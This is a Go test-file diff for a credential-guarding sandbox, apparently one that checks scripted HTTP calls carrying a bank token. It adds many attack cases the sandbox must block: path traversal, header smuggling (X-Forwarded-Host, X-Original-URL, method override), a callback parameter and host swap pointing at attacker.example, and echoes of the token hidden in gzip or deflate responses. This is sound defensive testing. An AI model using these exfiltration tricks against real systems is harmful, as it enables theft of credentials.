@@ -2,10 +2,14 @@ package enclave
 
 import (
 	"bytes"
+	"compress/flate"
+	"compress/gzip"
 	"context"
 	"encoding/base64"
 	"encoding/pem"
+	"errors"
 	"fmt"
+	"io"
 	"net"
 	"net/http"
 	"net/http/httptest"
@@ -154,7 +158,8 @@ func placeOf(s *httptest.Server) Place {
 // credential is one for /balance of the far end.
 func (r *rig) credential() *Credential {
 	return &Credential{Name: "bank", Value: canary, Owner: jurat.Address{1},
-		Policy: Policy{Place: r.place, Method: "GET", Path: "/accounts/*/balance", Header: "Authorization", Form: "Bearer {}", Uses: 1, Expires: wall() + 60_000}}
+		Policy: Policy{Place: r.place, Method: "GET", Path: "/accounts/*/balance", Header: "Authorization", Form: "Bearer {}",
+			Query: []string{"currency"}, Headers: []string{"accept-language"}, Uses: 1, Expires: wall() + 60_000}}
 }
 
 func wall() jurat.Time { return jurat.Time(time.Now().UnixMilli()) }
@@ -300,19 +305,39 @@ return Functions.encodeString(JSON.stringify(r.data ?? r.message ?? "none"))`
 		"a redirect elsewhere": {good, func(w http.ResponseWriter, q *http.Request) {
 			http.Redirect(w, q, "https://attacker.example/", http.StatusTemporaryRedirect)
 		}, 1},
-		"another path":           {strings.Replace(good, "/accounts/1/balance", "/echo", 1), nil, 0},
-		"a longer path":          {strings.Replace(good, "/accounts/1/balance", "/accounts/1/balance/x", 1), nil, 0},
-		"a path out":             {strings.Replace(good, "/accounts/1/balance", "/accounts/../balance", 1), nil, 0},
-		"a path out, escaped":    {strings.Replace(good, "/accounts/1/balance", "/accounts/%2e%2e%2fadmin/balance", 1), nil, 0},
-		"another method":         {strings.Replace(good, "url:", `method: "POST", url:`, 1), nil, 0},
-		"another header":         {strings.Replace(good, "Authorization:", `"X-Log":`, 1), nil, 0},
-		"more in the header":     {strings.Replace(good, `secrets.bank}`, `secrets.bank + secrets.bank}`, 1), nil, 0},
-		"in the query":           {strings.Replace(good, `/balance"`, `/balance?k=" + secrets.bank`, 1), nil, 0},
-		"another host header":    {strings.Replace(good, "{Authorization", `{Host: "attacker.example", Authorization`, 1), nil, 0},
-		"another host":           {strings.Replace(good, "FAR", "https://attacker.example", 1), nil, 0},
-		"over http":              {strings.Replace(good, "FAR/", "http://127.0.0.1:1/", 1), nil, 0},
-		"the mark as the result": {`return Functions.encodeString(secrets.bank)`, nil, 0},
-		"the mark in base64":     {`return Functions.encodeString(btoa(secrets.bank))`, nil, 0},
+		"echo in a coding": {good, func(w http.ResponseWriter, q *http.Request) {
+			w.Header().Set("Content-Encoding", "deflate")
+			deflated, _ := flate.NewWriter(w, 9)
+			fmt.Fprintf(deflated, "%q", q.Header["Authorization"])
+			_ = deflated.Close()
+		}, 1},
+		"echo in gzip": {good, func(w http.ResponseWriter, q *http.Request) {
+			w.Header().Set("Content-Encoding", "gzip")
+			zipped := gzip.NewWriter(w)
+			fmt.Fprintf(zipped, "%q", q.Header["Authorization"])
+			_ = zipped.Close()
+		}, 1},
+		"what the policy names":      {strings.NewReplacer(`/balance"`, `/balance?currency=EUR"`, "{Authorization", `{"Accept-Language": "de", accept: "text/plain", Authorization`).Replace(good), nil, 1},
+		"another method by a header": {strings.Replace(good, "{Authorization", `{"X-HTTP-Method-Override": "DELETE", Authorization`, 1), nil, 0},
+		"another path by a header":   {strings.Replace(good, "{Authorization", `{"X-Original-URL": "/admin", Authorization`, 1), nil, 0},
+		"another host by a header":   {strings.Replace(good, "{Authorization", `{"x-forwarded-host": "attacker.example", Authorization`, 1), nil, 0},
+		"a parameter":                {strings.Replace(good, `/balance"`, `/balance?callback=https://attacker.example"`, 1), nil, 0},
+		"a parameter twice":          {strings.Replace(good, `/balance"`, `/balance?currency=EUR&currency=USD"`, 1), nil, 0},
+		"a parameter in another":     {strings.Replace(good, `/balance"`, `/balance?currency=EUR;x=1"`, 1), nil, 0},
+		"a parameter, escaped":       {strings.Replace(good, `/balance"`, `/balance?%63urrency=EUR"`, 1), nil, 0},
+		"another path":               {strings.Replace(good, "/accounts/1/balance", "/echo", 1), nil, 0},
+		"a longer path":              {strings.Replace(good, "/accounts/1/balance", "/accounts/1/balance/x", 1), nil, 0},
+		"a path out":                 {strings.Replace(good, "/accounts/1/balance", "/accounts/../balance", 1), nil, 0},
+		"a path out, escaped":        {strings.Replace(good, "/accounts/1/balance", "/accounts/%2e%2e%2fadmin/balance", 1), nil, 0},
+		"another method":             {strings.Replace(good, "url:", `method: "POST", url:`, 1), nil, 0},
+		"another header":             {strings.Replace(good, "Authorization:", `"X-Log":`, 1), nil, 0},
+		"more in the header":         {strings.Replace(good, `secrets.bank}`, `secrets.bank + secrets.bank}`, 1), nil, 0},
+		"in the query":               {strings.Replace(good, `/balance"`, `/balance?k=" + secrets.bank`, 1), nil, 0},
+		"another host header":        {strings.Replace(good, "{Authorization", `{Host: "attacker.example", Authorization`, 1), nil, 0},
+		"another host":               {strings.Replace(good, "FAR", "https://attacker.example", 1), nil, 0},
+		"over http":                  {strings.Replace(good, "FAR/", "http://127.0.0.1:1/", 1), nil, 0},
+		"the mark as the result":     {`return Functions.encodeString(secrets.bank)`, nil, 0},
+		"the mark in base64":         {`return Functions.encodeString(btoa(secrets.bank))`, nil, 0},
 		"more uses than granted": {`let last = ""
 for (let i = 0; i < 3; i++) {
   const r = await Functions.makeHttpRequest({url: "FAR/accounts/" + i + "/balance", headers: {Authorization: "Bearer " + secrets.bank}})
@@ -334,6 +359,20 @@ return Functions.encodeString(last)`, nil, 1},
 				t.Errorf("nothing was asked: the test shows nothing; answer %s %q", status, result)
 			}
 		})
+	}
+}
+
+// An answer in a coding that was not asked for could carry a credential past the search for it.
+func TestAnswersInACodingAreRefused(t *testing.T) {
+	e := &egress{}
+	for coding, want := range map[string]error{"": nil, "identity": nil, "br": errCoding, "deflate": errCoding, "gzip": errCoding} {
+		answer := &http.Response{StatusCode: http.StatusOK, Header: http.Header{}, Body: io.NopCloser(strings.NewReader("x"))}
+		if coding != "" {
+			answer.Header.Set("Content-Encoding", coding)
+		}
+		if _, err := e.read(answer, 10); !errors.Is(err, want) {
+			t.Errorf("%q: %v, want %v", coding, err, want)
+		}
 	}
 }
 
